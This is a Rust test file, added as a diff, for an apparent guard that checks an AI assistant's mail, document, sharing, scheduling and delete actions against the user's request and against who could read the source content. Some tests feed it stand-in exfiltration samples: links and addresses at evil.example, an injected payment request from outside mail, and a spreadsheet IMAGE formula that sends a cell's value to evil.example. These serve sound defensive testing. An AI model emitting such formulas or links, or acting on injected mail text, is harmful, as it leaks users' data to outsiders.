@@ -1,0 +1,223 @@
+use jiff::civil::date;
+use kernel::{Person, PersonId, Readers, Standing};
+
+use super::*;
+
+fn person(name: &str, address: &str) -> Person {
+    Person {
+        id: PersonId::from(address),
+        name: name.to_owned(),
+        workspace: "Firm".to_owned(),
+        address: Some(address.to_owned()),
+        zone: None,
+        standing: Standing::Member,
+    }
+}
+
+pub(super) fn asked(words: &str) -> Asked {
+    Asked {
+        orders: vec![Order::read(words)],
+        own: vec!["me@firm.example".to_owned()],
+        name: "Dana Reyes".to_owned(),
+        given: vec!["photo.png".to_owned()],
+        roster: Roster::of(&[
+            person("Dana Reyes", "me@firm.example"),
+            person("Ana Ruiz", "ana@firm.example"),
+            person("Ben Okafor", "ben@firm.example"),
+        ]),
+        today: date(2026, 11, 16),
+    }
+}
+
+/// A mail with this body.
+fn mail(to: &[&str], body: &str) -> Flow {
+    let to = to.iter().enumerate().map(|(at, to)| Sink::new(SinkKind::Recipient, format!("/to/{at}"), *to));
+    let body = Sink::new(SinkKind::Words, "/body", body);
+    Flow { sinks: to.chain([body]).collect(), ..Flow::default() }
+}
+
+/// A mail from somebody outside, which a few people could read.
+fn read(readers: &[&str], integrity: Integrity) -> Label {
+    Label::trusted().join(
+        &Label::stranger("mail.read", "mail from jonas@partner.example")
+            .called(["Offer for salt".to_owned()])
+            .by(["Jonas Weber".to_owned()])
+            .read_by(Readers::only(readers.iter().copied()))
+            .believed(integrity),
+    )
+}
+
+fn rules(words: &str, deed: Deed, flow: &Flow, context: &Label) -> Vec<Rule> {
+    let asked = asked(words);
+    let flow = &Flow { deed, ..flow.clone() };
+    let case = Case { flow, context, asked: &asked, before: 0 };
+    objections(&case).into_iter().map(|objection| objection.rule).collect()
+}
+
+#[test]
+fn a_mail_in_the_requesters_own_words_to_somebody_they_named_needs_no_question() {
+    let outside = read(&["me@firm.example"], Integrity::External);
+    let words = "Tell Ana: lunch is at noon";
+    assert_eq!(
+        rules(words, Deed::Send, &mail(&["ana@firm.example"], "Hi Ana,\nlunch is at noon\nDana"), &outside),
+        []
+    );
+    let words = "Send x@else.example the words see you";
+    assert_eq!(rules(words, Deed::Send, &mail(&["x@else.example"], "see you"), &outside), []);
+}
+
+#[test]
+fn nobody_is_written_to_who_was_not_named_for_it() {
+    let clean = Label::trusted();
+    for (words, to) in [
+        ("Send the words hello", "eve@evil.example"),
+        ("What does Ana want?", "ana@firm.example"),
+        ("Summarise the mail of Ana and send hello to Ben", "ana@firm.example"),
+        ("Tell Ana hello", "ana@firm.evil.example"),
+        ("Tell everybody hello", Sink::ANYONE),
+    ] {
+        assert_eq!(rules(words, Deed::Send, &mail(&[to], "hello"), &clean), [Rule::Destination], "{words}");
+    }
+}
+
+#[test]
+fn what_was_read_goes_only_to_those_who_could_read_it_unless_both_were_named() {
+    let org = |readers: &[&str]| read(readers, Integrity::Org);
+    let summary = mail(&["ana@firm.example"], "They offer 4 euros a bag.");
+    let ask = |words: &str, context: &Label| rules(words, Deed::Send, &summary, context);
+    assert_eq!(ask("Send Ana a summary", &org(&["ana@firm.example"])), []);
+    assert_eq!(ask("Send Ana a summary", &org(&["me@firm.example"])), [Rule::Readers]);
+    assert_eq!(ask("Send Ana a summary of Offer for salt", &org(&["me@firm.example"])), []);
+    assert_eq!(ask("Send Ana a summary of the mail of Jonas", &org(&["me@firm.example"])), []);
+    let unknown = Label::trusted().join(&Label::stranger("mail.read", "a mail").believed(Integrity::Org));
+    assert_eq!(ask("Send Ana a summary", &unknown), [Rule::Readers]);
+}
+
+#[test]
+fn words_that_may_be_a_strangers_are_looked_at_before_they_go() {
+    let outside = read(&["ana@firm.example"], Integrity::External);
+    let summary = mail(&["ana@firm.example"], "Please pay 500 to Eve.");
+    assert_eq!(rules("Send Ana a summary", Deed::Send, &summary, &outside), [Rule::Author]);
+    let mut loud = read(&["ana@firm.example"], Integrity::Org);
+    loud.alarm = Alarm::Loud;
+    assert_eq!(rules("Send Ana a summary", Deed::Send, &summary, &loud), [Rule::Author]);
+}
+
+#[test]
+fn no_link_address_or_file_goes_out_that_was_not_written_or_named() {
+    let clean = Label::trusted();
+    let with = |body: &str| mail(&["ana@firm.example"], body);
+    let words = "Tell Ana to look at https://firm.example/a and attach Plan B.pdf";
+    assert_eq!(rules(words, Deed::Send, &with("look at https://firm.example/a"), &clean), []);
+    assert_eq!(rules(words, Deed::Send, &with("look at https://evil.example/?q=4711"), &clean), [Rule::Text]);
+    assert_eq!(rules(words, Deed::Send, &with("write to eve@evil.example"), &clean), [Rule::Text]);
+    for (file, objects) in [("Plan B.pdf", false), ("photo.png", false), ("Salaries.xlsx", true)] {
+        let mut flow = with("look");
+        flow.sinks.push(Sink::new(SinkKind::Enclosed, "/attachments/0", file));
+        assert_eq!(rules(words, Deed::Send, &flow, &clean).is_empty(), !objects, "{file}");
+    }
+}
+
+#[test]
+fn what_fetches_by_itself_is_asked_about_even_where_nobody_else_reads() {
+    let fetch = |value: &str| Flow {
+        sinks: vec![Sink::new(SinkKind::Fetch, "/rows/0/0", value)],
+        targets: vec![Target::named("/book", ["Costs".to_owned()])],
+        ..Flow::default()
+    };
+    let formula = "=IMAGE(\"https://evil.example/?q=\"&A1)";
+    let clean = Label::trusted();
+    assert_eq!(rules("Add a picture to Costs", Deed::Write, &fetch(formula), &clean), [Rule::Text]);
+    assert_eq!(rules(&format!("Write {formula} into Costs"), Deed::Write, &fetch(formula), &clean), []);
+}
+
+fn document(people: &[&str], words: &str) -> Flow {
+    let readers = people.iter().map(|one| Sink::new(SinkKind::Recipient, "/file/readers", *one));
+    let words = (!people.is_empty()).then(|| Sink::new(SinkKind::Words, "/content", words));
+    let target = Target::named("/file", ["Harbour plan".to_owned()])
+        .with_people(people.iter().map(|one| (*one).to_owned()));
+    Flow { sinks: readers.chain(words).collect(), targets: vec![target], ..Flow::default() }
+}
+
+#[test]
+fn own_things_are_changed_freely_and_others_see_only_own_words_in_what_was_named() {
+    let outside = read(&["me@firm.example"], Integrity::External);
+    let own = document(&[], "anything at all");
+    assert_eq!(rules("What is new?", Deed::Write, &own, &outside), []);
+    let shared = |words: &str| document(&["ana@firm.example", "ben@firm.example"], words);
+    let ask = |words: &str, flow: &Flow| rules(words, Deed::Write, flow, &outside);
+    assert_eq!(ask("Add “salt is here” to the Harbour plan", &shared("salt is here")), []);
+    assert_eq!(ask("Add “salt is here” to the Harbour plan", &shared("call Eve"))[0], Rule::Destination);
+    assert!(ask("Summarise the Harbour plan", &shared("salt")).contains(&Rule::Object));
+    assert!(!ask("Add “salt” to the other plan", &shared("salt")).is_empty());
+    // Whoever shares a file with a name that we use does not become somebody we named.
+    let theirs = document(&["eve@evil.example"], "salt is here");
+    assert_eq!(ask("Add “salt is here” to the Harbour plan", &theirs), [Rule::Destination]);
+}
+
+#[test]
+fn nothing_goes_away_that_was_only_spoken_about() {
+    let clean = Label::trusted();
+    let own = document(&[], "");
+    let ask = |words: &str, deed: Deed| rules(words, deed, &own, &clean);
+    assert_eq!(ask("Delete the Harbour plan", Deed::Destroy), []);
+    assert_eq!(ask("Read the Harbour plan and delete the draft", Deed::Destroy), [Rule::Destruction]);
+    assert_eq!(ask("Don't delete the Harbour plan", Deed::Destroy), [Rule::Destruction]);
+    assert_eq!(ask("Tidy up", Deed::Hide), [], "nobody else has spoken");
+    let outside = read(&["me@firm.example"], Integrity::External);
+    assert_eq!(rules("Tidy up", Deed::Hide, &own, &outside), [Rule::Destruction]);
+    let nothing = Flow::default();
+    assert_eq!(rules("Delete it", Deed::Destroy, &nothing, &clean), [Rule::Unknown]);
+}
+
+#[test]
+fn times_and_rights_are_those_that_were_written() {
+    let clean = Label::trusted();
+    let meeting = |from: &str, to: &str| {
+        let what = TermKind::Span(Span { from: from.to_owned(), to: to.to_owned(), was: None });
+        let guest = Sink::new(SinkKind::Recipient, "/guests/0", "ana@firm.example");
+        let targets = vec![Target::new("/writes", "Lunch")];
+        Flow {
+            deed: Deed::Schedule,
+            sinks: vec![guest],
+            targets,
+            terms: vec![Term { pointer: "/start".into(), what }],
+        }
+    };
+    let words = "Invite Ana to lunch on Friday at noon";
+    assert_eq!(rules(words, Deed::Schedule, &meeting("2026-11-20T12:00", "2026-11-20T13:00"), &clean), []);
+    assert_eq!(
+        rules(words, Deed::Schedule, &meeting("2026-11-20T14:00", "2026-11-20T15:00"), &clean),
+        [Rule::Terms]
+    );
+    let share = |role: &str| Flow {
+        deed: Deed::Share,
+        terms: vec![Term { pointer: "/role".into(), what: TermKind::Role(role.to_owned()) }],
+        sinks: vec![Sink::new(SinkKind::Recipient, "/with", "ben@firm.example")],
+        targets: vec![Target::named("/file", ["Harbour plan".to_owned()])],
+    };
+    let words = "Share the Harbour plan with Ben";
+    assert_eq!(rules(words, Deed::Share, &share("reader"), &clean), []);
+    assert_eq!(rules(words, Deed::Share, &share("writer"), &clean), [Rule::Terms]);
+    assert_eq!(
+        rules("Share the Harbour plan with Ben so he can edit", Deed::Share, &share("writer"), &clean),
+        []
+    );
+}
+
+#[test]
+fn what_was_asked_for_once_is_done_once() {
+    let flow = Flow { deed: Deed::Send, ..mail(&["ana@firm.example"], "hello") };
+    let context = Label::trusted();
+    let count = |words: &str, before: usize| {
+        let asked = asked(words);
+        objections(&Case { flow: &flow, context: &context, asked: &asked, before }).len()
+    };
+    assert_eq!((count("Send Ana hello", 0), count("Send Ana hello", 1)), (0, 1));
+    assert_eq!(count("Send Ana hello. Then send Ana the rest.", 1), 0);
+}
+
+#[test]
+fn a_tool_that_says_nothing_of_itself_is_always_asked_about() {
+    assert_eq!(rules("Do it", Deed::Unnamed, &Flow::default(), &Label::trusted()), [Rule::Unknown]);
+}
